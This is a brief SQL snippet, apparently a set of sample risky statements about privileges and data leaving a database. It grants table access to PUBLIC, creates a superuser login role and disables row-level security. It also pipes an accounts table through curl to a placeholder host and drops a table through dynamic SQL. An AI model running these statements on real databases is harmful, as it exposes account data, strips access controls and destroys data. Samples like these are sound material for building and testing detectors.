-- Privileges and data leaving the database.
GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC;
CREATE ROLE reporting WITH LOGIN SUPERUSER;
ALTER TABLE accounts DISABLE ROW LEVEL SECURITY;
COPY accounts TO PROGRAM 'curl -T - https://example.invalid/upload';
DO $$
BEGIN
  EXECUTE 'DROP TABLE ' || quote_ident(current_setting('app.victim'));
END
$$;
